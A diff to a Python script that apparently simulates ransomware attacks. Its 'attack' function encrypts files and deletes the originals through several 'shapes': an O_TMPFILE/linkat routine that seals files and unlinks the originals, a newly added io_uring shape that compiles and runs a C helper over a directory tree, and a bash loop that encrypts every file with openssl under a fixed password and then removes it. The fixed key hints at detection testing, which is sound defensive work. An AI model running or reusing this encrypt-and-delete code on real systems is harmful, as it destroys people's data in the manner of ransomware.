@@ -18,6 +18,7 @@ import random
 import shutil
 import subprocess
 import sys
+import tempfile
 import threading
 import time
 
@@ -157,7 +158,10 @@ def tmpfile_link(path):
     data = encrypt(read(path), path.encode())
     descriptor = os.open(os.path.dirname(path), os.O_TMPFILE | os.O_RDWR, 0o600)
     os.write(descriptor, data)
-    os.link(f"/proc/self/fd/{descriptor}", path + ".sealed", follow_symlinks=True)
+    at_fdcwd, at_symlink_follow = -100, 0x400
+    if ctypes.CDLL(None, use_errno=True).linkat(at_fdcwd, f"/proc/self/fd/{descriptor}".encode(), at_fdcwd,
+                                                (path + ".sealed").encode(), at_symlink_follow):
+        raise OSError(ctypes.get_errno(), "linkat")
     os.close(descriptor)
     os.unlink(path)
 
@@ -321,6 +325,12 @@ def attack(shape, root, rate):
                     log.done(path)
                 os._exit(0)
             os.waitpid(child, 0)
+    elif shape == "io_uring":
+        with tempfile.TemporaryDirectory() as folder:
+            program = os.path.join(folder, "uring")
+            source = os.path.join(os.path.dirname(os.path.abspath(__file__)), "uring.c")
+            subprocess.run(["gcc", "-O2", "-o", program, source], check=True)
+            subprocess.run([program, root, str(rate)], check=True)
     elif shape == "script_openssl":
         script = 'for f in "$@"; do openssl enc -aes-256-ctr -pbkdf2 -iter 1 -pass pass:fixed -in "$f" -out "$f.enc"; rm "$f"; done'
         subprocess.run(["bash", "-c", script, "sh"] + paths, check=True)
